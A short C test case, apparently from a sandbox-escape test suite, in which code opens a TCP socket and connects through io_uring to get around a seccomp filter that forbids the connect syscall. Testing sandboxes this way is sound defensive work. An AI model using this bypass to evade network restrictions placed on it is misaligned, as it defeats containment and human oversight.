#include "attack.h"
// io_uring connects where the filter forbids connect.
ATTACK(.judge = "hit:tcp4") {
  struct sockaddr_in a = in4(num("tcp4"));
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  ring((struct io_uring_sqe){.opcode = IORING_OP_CONNECT, .fd = fd, .addr = (uintptr_t)&a, .off = sizeof a});
}
